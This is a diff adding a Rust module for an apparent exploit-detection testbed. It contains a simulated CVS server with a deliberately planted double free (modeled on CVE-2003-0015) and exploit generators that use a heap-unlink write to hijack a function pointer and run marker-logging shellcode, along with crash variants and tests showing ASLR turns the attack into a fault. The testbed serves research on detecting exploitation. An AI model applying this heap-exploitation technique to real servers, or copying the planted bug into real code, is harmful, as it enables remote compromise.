@@ -1,0 +1,463 @@
+//! mini-cvs — the cvs-1.11.4 / CVE-2003-0015 analogue.
+//!
+//! A line-command protocol server (`Root`, `Directory`, `Entry`, `done`).
+//! `dirswitch` frees the previous directory buffer before allocating a
+//! new one, but its malformed-name error path forgets to clear the
+//! pointer — so the *next* `Directory` command frees it again. The double
+//! free leaves the chunk both allocated and on the free list; a later
+//! `Directory` writes attacker bytes over the free-list `fd`/`bk` words,
+//! and the next allocation's unlink performs an attacker-controlled
+//! 4-byte write. The compromise variant uses it to overwrite the `done`
+//! response function pointer with the address of shellcode parked in the
+//! static `Root` buffer; under address-space randomization the unlink
+//! write misses and the server faults inside library `malloc` instead —
+//! the detection signal.
+
+use svm::loader::Layout;
+use svm::stdlib::LIB_ASM;
+use svm::SvmError;
+
+use crate::common::{App, BugType, Exploit, RT_ASM};
+
+fn source() -> String {
+    format!(
+        r#"
+; mini-cvs (CVS analogue) — double free in dirswitch.
+.text
+main:
+    sys accept
+    mov r10, r0
+    ; reset per-session state
+    movi r1, cur_dir
+    movi r2, 0
+    st [r1, 0], r2
+cvs_loop:
+    call read_line
+    cmpi r0, 0
+    jz cvs_done
+    movi r0, linebuf
+    movi r1, cmd_root
+    movi r2, 5
+    call strncmp
+    cmpi r0, 0
+    jz do_root
+    movi r0, linebuf
+    movi r1, cmd_dir
+    movi r2, 10
+    call strncmp
+    cmpi r0, 0
+    jz do_dir
+    movi r0, linebuf
+    movi r1, cmd_entry
+    movi r2, 6
+    call strncmp
+    cmpi r0, 0
+    jz do_entry
+    movi r0, linebuf
+    movi r1, cmd_done
+    call strcmp
+    cmpi r0, 0
+    jz do_done
+    mov r0, r10
+    movi r1, resp_err
+    call write_cstr
+    jmp cvs_loop
+do_root:
+    movi r0, rootbuf
+    movi r1, linebuf+5
+    movi r2, 200
+    call memcpy            ; Root path into the static buffer (fixed len)
+    mov r0, r10
+    movi r1, resp_ok
+    call write_cstr
+    jmp cvs_loop
+do_dir:
+    movi r0, linebuf+10
+    call dirswitch
+    cmpi r0, 0
+    jnz dir_err
+    mov r0, r10
+    movi r1, resp_ok
+    call write_cstr
+    jmp cvs_loop
+dir_err:
+    mov r0, r10
+    movi r1, resp_badname
+    call write_cstr
+    jmp cvs_loop
+do_entry:
+    movi r0, linebuf+6
+    call add_entry
+    mov r0, r10
+    movi r1, resp_ok
+    call write_cstr
+    jmp cvs_loop
+do_done:
+    movi r1, respond_fn
+    ld r1, [r1, 0]
+    callr r1               ; dispatch through fn pointer (hijack target)
+cvs_done:
+    mov r0, r10
+    sys close
+    jmp main
+
+respond_done:
+    mov r0, r10
+    movi r1, resp_done
+    call write_cstr
+    ret
+
+; Read one '\n'-terminated line into linebuf (max 250 bytes).
+read_line:
+    push r4
+    push r5
+    movi r4, linebuf
+    movi r5, 0
+rl_loop:
+    mov r0, r10
+    mov r1, r4
+    movi r2, 1
+    sys read
+    cmpi r0, 0
+    jz rl_end
+    ldb r1, [r4, 0]
+    cmpi r1, '\n'
+    jz rl_end
+    addi r4, r4, 1
+    addi r5, r5, 1
+    cmpi r5, 250
+    jlt rl_loop
+rl_end:
+    movi r1, 0
+    stb [r4, 0], r1
+    mov r0, r5
+    pop r5
+    pop r4
+    ret
+
+; Switch current directory: frees the old buffer, allocates a new one.
+; BUG: the bad-name error path returns without clearing cur_dir, so the
+; next call frees the same pointer again (the CVE-2003-0015 pattern).
+dirswitch:
+    push r4
+    push r5
+    mov r4, r0             ; name
+    movi r5, cur_dir
+    ld r0, [r5, 0]
+    cmpi r0, 0
+    jz dirswitch_fresh
+    call free              ; <-- the double-free site
+dirswitch_fresh:
+    ldb r1, [r4, 0]
+    cmpi r1, '/'
+    jz dirswitch_badname
+    movi r0, 64
+    call malloc
+    st [r5, 0], r0
+    mov r1, r4
+    call strcpy            ; directory name into the (re)allocated buffer
+    movi r0, 0
+    pop r5
+    pop r4
+    ret
+dirswitch_badname:
+    movi r0, 1             ; error -- but cur_dir still points at freed chunk
+    pop r5
+    pop r4
+    ret
+
+; Record an entry: allocate a fresh buffer and copy the data into it.
+add_entry:
+    push r4
+    push r5
+    mov r4, r0
+    movi r0, 64
+    call malloc            ; <-- unlink of the corrupted list fires here
+    cmpi r0, 0
+    jz ae_out
+    mov r5, r0
+    mov r0, r4
+    call strlen
+    cmpi r0, 60
+    jle ae_len_ok
+    movi r0, 60
+ae_len_ok:
+    mov r2, r0
+    mov r0, r5
+    mov r1, r4
+    call memcpy
+ae_out:
+    pop r5
+    pop r4
+    ret
+
+.data
+cmd_root: .string "Root "
+cmd_dir: .string "Directory "
+cmd_entry: .string "Entry "
+cmd_done: .string "done"
+resp_ok: .string "ok\n"
+resp_err: .string "error unknown command\n"
+resp_badname: .string "error bad directory name\n"
+resp_done: .string "ok: session complete\n"
+; Padding pushes the slots below past offset 0x100 so their absolute
+; addresses contain no NUL bytes (they travel through a strcpy in the
+; exploit path -- the classic constraint).
+pad: .space 300
+cur_dir: .word 0
+respond_fn: .word respond_done
+rootbuf: .space 256
+linebuf: .space 256
+{LIB_ASM}
+{RT_ASM}
+"#
+    )
+}
+
+/// Build the CVS app.
+pub fn app() -> Result<App, SvmError> {
+    App::build(
+        "CVS",
+        "cvs-1.11.4 version control server",
+        "CVE-2003-0015",
+        BugType::DoubleFree,
+        "Remotely exploitable vulnerability provides unauthorized access and disruption of service",
+        source(),
+    )
+}
+
+/// A benign session: set a root, a couple of directories and entries.
+pub fn benign_session(dirs: &[&str]) -> Vec<u8> {
+    let mut s = String::from("Root /repo\n");
+    for d in dirs {
+        s.push_str(&format!("Directory {d}\nEntry file-{d}\n"));
+    }
+    s.push_str("done\n");
+    s.into_bytes()
+}
+
+fn forbidden(b: u8) -> bool {
+    b == b'\n' || b == 0
+}
+
+/// Build the attack command stream against an assumed layout.
+///
+/// `fd`/`bk` are the unlink operands: the victim performs
+/// `*(fd+12) = bk; *(bk+8) = fd` at the next allocation.
+fn attack_stream(fd: u32, bk: u32, root_payload: &[u8]) -> Vec<u8> {
+    let mut s = Vec::new();
+    s.extend_from_slice(b"Root ");
+    s.extend_from_slice(root_payload);
+    s.extend_from_slice(b"\n");
+    s.extend_from_slice(b"Directory aaaa\n"); // Allocate cur_dir = A.
+    s.extend_from_slice(b"Directory /bad\n"); // free(A); pointer kept (bug).
+                                              // free(A) again (double free), then the same chunk is re-allocated and
+                                              // the name bytes land over its in-list fd/bk words.
+    s.extend_from_slice(b"Directory ");
+    s.extend_from_slice(&fd.to_le_bytes());
+    s.extend_from_slice(&bk.to_le_bytes());
+    s.extend_from_slice(b"pad\n");
+    // Next allocation walks the corrupted list: unlink -> arbitrary write.
+    s.extend_from_slice(b"Entry xx\n");
+    // Dispatch through the (now overwritten) function pointer.
+    s.extend_from_slice(b"done\n");
+    s
+}
+
+/// The compromise exploit: the unlink write redirects `respond_fn` to
+/// shellcode parked in `rootbuf`; `done` then runs it.
+pub fn exploit_compromise(a: &App, assumed: &Layout) -> Exploit {
+    let respond_fn = assumed.data_base + a.program.symbols["respond_fn"].off;
+    let rootbuf = assumed.data_base + a.program.symbols["rootbuf"].off;
+    // The unlink also writes `*(bk+8) = fd`, clobbering shellcode bytes
+    // 8..12 — so the payload leads with a jump over a 16-byte hole.
+    let sc_base = rootbuf;
+    let mut payload = Vec::new();
+    payload.extend_from_slice(
+        &svm::isa::Op::Jmp {
+            target: sc_base + 16,
+        }
+        .encode(),
+    );
+    payload.extend_from_slice(&[b'J'; 8]); // Clobbered by the unlink.
+    payload.extend_from_slice(&shellcode_log(sc_base + 16));
+    // Root-payload delivery is a fixed-length memcpy of the read line:
+    // only the line terminator is forbidden.
+    assert!(
+        payload.iter().all(|b| *b != b'\n'),
+        "shellcode must survive line-based delivery"
+    );
+    let fd = respond_fn.wrapping_sub(12);
+    let bk = sc_base;
+    for addr in [fd, bk] {
+        assert!(
+            addr.to_le_bytes().iter().all(|b| !forbidden(*b)),
+            "address bytes must survive"
+        );
+    }
+    Exploit {
+        app: "CVS",
+        input: attack_stream(fd, bk, &payload),
+        variant: "compromise (layout-dependent)",
+    }
+}
+
+/// Shellcode variant for line-based delivery: avoids `r10` (whose
+/// register number collides with the `\n` line terminator when encoded)
+/// by writing the marker via the `log` syscall.
+fn shellcode_log(payload_base: u32) -> Vec<u8> {
+    use crate::common::PWNED_MARKER;
+    use svm::isa::{Op, Reg, Syscall};
+    let insns = 4;
+    let marker_addr = payload_base + insns * 8;
+    let mut code = Vec::new();
+    code.extend_from_slice(
+        &Op::MovI {
+            rd: Reg::R0,
+            imm: marker_addr,
+        }
+        .encode(),
+    );
+    code.extend_from_slice(
+        &Op::MovI {
+            rd: Reg::R1,
+            imm: PWNED_MARKER.len() as u32,
+        }
+        .encode(),
+    );
+    code.extend_from_slice(
+        &Op::Sys {
+            num: Syscall::Log.num(),
+        }
+        .encode(),
+    );
+    code.extend_from_slice(
+        &Op::Sys {
+            num: Syscall::Exit.num(),
+        }
+        .encode(),
+    );
+    code.extend_from_slice(PWNED_MARKER);
+    code
+}
+
+/// The deterministic-crash exploit: unlink operands point at addresses
+/// unmapped under every layout, so the corrupted-list allocation always
+/// faults (inside library `malloc`).
+pub fn exploit_crash(_a: &App) -> Exploit {
+    Exploit {
+        app: "CVS",
+        input: attack_stream(0x6666_6666, 0x6767_6767, b"/repo"),
+        variant: "crash (layout-independent)",
+    }
+}
+
+/// Polymorphic crash variant: different names/padding, same double free.
+pub fn exploit_crash_poly(_a: &App, salt: u8) -> Exploit {
+    let mut s = Vec::new();
+    s.extend_from_slice(format!("Root /r{salt}\n").as_bytes());
+    s.extend_from_slice(format!("Directory d{salt}{salt}\n").as_bytes());
+    s.extend_from_slice(b"Directory /x\n");
+    s.extend_from_slice(b"Directory ");
+    s.extend_from_slice(&(0x6161_6161u32 + salt as u32).to_le_bytes());
+    s.extend_from_slice(&(0x6262_6262u32).to_le_bytes());
+    s.extend_from_slice(format!("p{salt}\n").as_bytes());
+    s.extend_from_slice(b"Entry yy\n");
+    s.extend_from_slice(b"done\n");
+    Exploit {
+        app: "CVS",
+        input: s,
+        variant: "crash (polymorphic)",
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::common::is_compromised;
+    use svm::loader::Aslr;
+    use svm::{Fault, Machine, NopHook, Status};
+
+    fn drive(m: &mut Machine) -> Status {
+        m.run(&mut NopHook, 400_000_000)
+    }
+
+    #[test]
+    fn benign_session_completes() {
+        let a = app().expect("app");
+        let mut m = a.boot(Aslr::on(2)).expect("boot");
+        m.net.push_connection(benign_session(&["src", "doc"]));
+        drive(&mut m);
+        let out = m.net.conn(0).expect("c").output.clone();
+        let text = String::from_utf8_lossy(&out);
+        assert_eq!(
+            text.matches("ok\n").count(),
+            5,
+            "Root + 2 dirs + 2 entries: {text}"
+        );
+        assert!(text.contains("session complete"));
+        assert!(matches!(m.status(), Status::Blocked(_)), "server healthy");
+    }
+
+    #[test]
+    fn double_free_is_performed_silently_on_benign_looking_stream() {
+        // The double free alone (valid metadata) does not crash: this is
+        // why lightweight detection needs the wild unlink to misfire.
+        let a = app().expect("app");
+        let mut m = a.boot(Aslr::off()).expect("boot");
+        m.net
+            .push_connection(b"Directory aa\nDirectory /bad\nDirectory bb\ndone\n".to_vec());
+        drive(&mut m);
+        assert!(matches!(m.status(), Status::Blocked(_)), "no crash");
+    }
+
+    #[test]
+    fn compromise_succeeds_when_layout_guessed() {
+        let a = app().expect("app");
+        let layout = Layout::nominal();
+        let mut m = a.boot_at(layout).expect("boot");
+        let ex = exploit_compromise(&a, &layout);
+        m.net.push_connection(ex.input);
+        drive(&mut m);
+        assert!(
+            is_compromised(&m),
+            "fn-pointer hijack via unlink ran shellcode"
+        );
+    }
+
+    #[test]
+    fn compromise_faults_under_aslr() {
+        let a = app().expect("app");
+        let ex = exploit_compromise(&a, &Layout::nominal());
+        let mut m = a.boot(Aslr::on(0xbeef)).expect("boot");
+        m.net.push_connection(ex.input);
+        let s = drive(&mut m);
+        assert!(matches!(s, Status::Faulted(_)), "{s:?}");
+        assert!(!is_compromised(&m));
+    }
+
+    #[test]
+    fn crash_exploit_faults_inside_library_malloc() {
+        let a = app().expect("app");
+        let mut m = a.boot(Aslr::on(3)).expect("boot");
+        m.net.push_connection(exploit_crash(&a).input);
+        let s = drive(&mut m);
+        let Status::Faulted(f) = s else {
+            panic!("{s:?}")
+        };
+        assert!(matches!(f, Fault::Unmapped { .. }), "{f:?}");
+        assert_eq!(m.symbols.resolve(f.pc()).expect("sym").name, "malloc");
+        // Heap walk shows an inconsistency-free boundary chain but the
+        // chunk is both live and listed — the analyzer sees double-alloc.
+    }
+
+    #[test]
+    fn poly_variants_all_crash() {
+        let a = app().expect("app");
+        for salt in [1u8, 5, 9] {
+            let mut m = a.boot(Aslr::on(salt as u64 + 40)).expect("boot");
+            m.net.push_connection(exploit_crash_poly(&a, salt).input);
+            assert!(matches!(drive(&mut m), Status::Faulted(_)), "salt {salt}");
+        }
+    }
+}
